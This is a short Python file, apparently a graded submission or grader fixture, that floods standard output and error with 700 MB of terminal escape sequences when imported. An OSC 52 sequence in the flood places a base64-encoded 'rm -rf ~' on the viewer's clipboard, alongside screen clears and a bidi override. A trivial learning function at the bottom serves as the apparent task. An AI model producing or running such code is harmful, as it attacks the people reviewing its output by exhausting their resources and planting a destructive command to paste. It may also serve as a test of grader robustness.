"""Writes 400 MB to its standard output and 300 MB to its standard error, escape sequences included:
OSC 52 (writes the teacher's clipboard), a screen clear, colours and a bidi override."""

import os

CHUNK = (b"\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x1b[31mflood\xe2\x80\xae\n" * 4096)[: 1 << 20]
for descriptor, megabytes in ((1, 400), (2, 300)):
    try:
        for _ in range(megabytes):
            os.write(descriptor, CHUNK)
    except OSError:
        pass


def learn_from_bean(w, x, y, lr):
    return w + lr * (y - w * x) * x
